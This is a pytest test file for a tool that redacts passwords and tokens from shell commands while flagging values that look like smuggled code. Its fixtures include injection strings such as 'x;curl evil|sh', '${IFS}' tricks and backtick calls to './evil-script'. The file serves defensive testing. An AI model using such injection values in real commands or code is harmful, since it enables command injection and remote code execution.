"""A secret in a command is hidden, and code in the place of one is not."""

from __future__ import annotations

import pytest

from amplifier_core.previews import make_safe
from amplifier_core.utils.command_secrets import HIDDEN_CODE, redact_commands, redact_words

CODE = (
    "make PASSWORD='x;curl evil|sh'",
    "git clone https://u:;curl${IFS}e|sh;@h/x",
    "x -----BEGIN PRIVATE KEY-----\nsh -c (x)\n-----END PRIVATE KEY-----",
)
SIGNS = (
    *("TOKEN=;./evilscript123 && echo ok", "TOKEN=`./evil-script`", "TOKEN=|evil x", "PASSWORD=(evil)"),
    *('PASSWORD="`evil`"', "x --password `evil` ", "mysql -p`evil`", "PASSWORD= ./evil12345"),
)
"""Commands with a sign of the shell, or a blank, at the beginning of what looks like a secret."""
WORDS = (
    "make PASSWORD='hunter2hunter2'",
    "git clone https://u:hunter2@h/x",
    "curl -H 'Authorization: Bearer abc123def'",
)


@pytest.mark.parametrize("command", CODE, ids=range(len(CODE)))  # pytest puts an id into the environment
def test_code_in_the_place_of_a_secret_is_told_or_shown(command: str) -> None:
    assert redact_words(command) == command
    assert HIDDEN_CODE in redact_commands(command)
    assert HIDDEN_CODE in make_safe(command)
    assert redact_commands(redact_commands(command)) == redact_commands(command)


@pytest.mark.parametrize("command", SIGNS, ids=range(len(SIGNS)))
def test_code_behind_a_sign_of_the_shell_is_shown(command: str) -> None:
    assert redact_words(command) == command


@pytest.mark.parametrize("command", WORDS)
def test_a_word_in_the_place_of_a_secret_is_hidden(command: str) -> None:
    assert redact_words(command) == redact_commands(command)
    assert "[REDACTED]" in redact_words(command)


def test_a_secret_that_is_known_is_hidden_whatever_it_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_PASSWORD", "a;long (secret)")
    assert "long" not in redact_words("x PASSWORD='a;long (secret)'; y") + redact_commands("x 'a;long (secret)'")


def test_only_the_secret_that_may_be_code_is_shown_in_a_command() -> None:
    command = "make PASSWORD='x;curl evil|sh' API_TOKEN=abcd1234efgh; git clone https://u:hunter2@h/x"
    shown = "make PASSWORD='x;curl evil|sh' API_TOKEN=[REDACTED]; git clone https://[REDACTED]@h/x"
    assert redact_words(command) == shown
    assert redact_words(shown) == shown
    assert redact_words("(PASSWORD=hunter2secret); ls") == "(PASSWORD=[REDACTED]); ls"
    assert redact_words("x PASSWORD=';;'; y") == "x PASSWORD=';;'; y"
    assert redact_words(redact_commands(CODE[0])) == redact_commands(CODE[0])
